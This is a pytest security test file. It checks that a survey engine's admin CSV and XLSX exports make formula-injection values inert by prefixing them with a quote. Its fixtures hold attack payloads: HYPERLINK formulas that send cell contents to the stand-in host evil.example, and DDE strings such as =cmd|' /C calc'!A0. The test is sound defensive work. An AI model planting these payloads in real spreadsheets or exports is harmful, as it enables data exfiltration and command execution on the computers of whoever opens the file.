"""CSV/Excel formula injection: answers and labels starting with = + - @ tab or CR are inert in the
CSV and XLSX exports downloaded through the admin pages (a leading quote, never an Excel formula)."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from openpyxl import load_workbook

from survey_engine.store.catalog import create_campaign, store_version
from tests.security.world import answers_with, build_world, questionnaire_with, sign_in

STARTS = ["=", "+", "-", "@", "\t", "\r"]
FORMULAS = [f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" for start in STARTS] + [
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "=1+1\n=2+2"]


def _dangerous(value: object) -> bool:
    return isinstance(value, str) and value.startswith(tuple(STARTS))


@pytest.fixture
def exported(app, db):
    """Campaign 'win' with one answer per formula; campaign 'formulas' whose questionnaire texts are formulas."""
    world = build_world(app, db)
    client = app.test_client()
    headers = {"Authorization": f"Bearer {world.device_token}"}
    for formula in FORMULAS:
        reply = client.post("/api/v1/responses", headers=headers, json={
            "uuid": str(uuid.uuid4()), "campaign": "win", "site": "w1", "mode": "intercept",
            "answers": answers_with(formula, overall=2)})
        assert reply.status_code == 201, reply.get_json()
    document = questionnaire_with("=HYPERLINK(\"http://evil.example\")", replace=True)
    document["id"] = "formulas"
    version, _ = store_version(db, document)
    create_campaign(db, slug="formulas", name="=1+1", version=version, modes=["online"])
    db.commit()
    sign_in(client, "analyst")
    return client


def test_csv_export_cells_never_start_a_formula(exported):
    """Every header and cell of the CSV download is inert, and the texts are still there after the quote."""
    reply = exported.get("/admin/responses/export.csv?campaign=win")
    assert reply.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(reply.get_data(as_text=True).lstrip("\ufeff"))) for cell in row]
    assert [c for c in cells if _dangerous(c)] == []
    for formula in FORMULAS:
        stored = formula.strip()  # the answer engine trims text answers (a leading tab or CR goes)
        assert ("'" + stored if _dangerous(stored) else stored) in cells, formula


@pytest.mark.parametrize("slug", ["win", "formulas"])
def test_xlsx_export_has_no_formula_cells(exported, slug):
    """No cell of either sheet (answers, codebook of labels) is a formula or starts like one."""
    reply = exported.get(f"/admin/responses/export.xlsx?campaign={slug}")
    assert reply.status_code == 200
    book = load_workbook(io.BytesIO(reply.data))
    found = [(sheet.title, cell.coordinate, cell.value) for sheet in book.worksheets for row in sheet.iter_rows()
             for cell in row if cell.data_type == "f" or _dangerous(cell.value)]
    assert found == []
    if slug == "formulas":
        labels = [cell.value for row in book["codebook"].iter_rows() for cell in row]
        assert "'=HYPERLINK(\"http://evil.example\")" in labels  # the label is kept, made inert
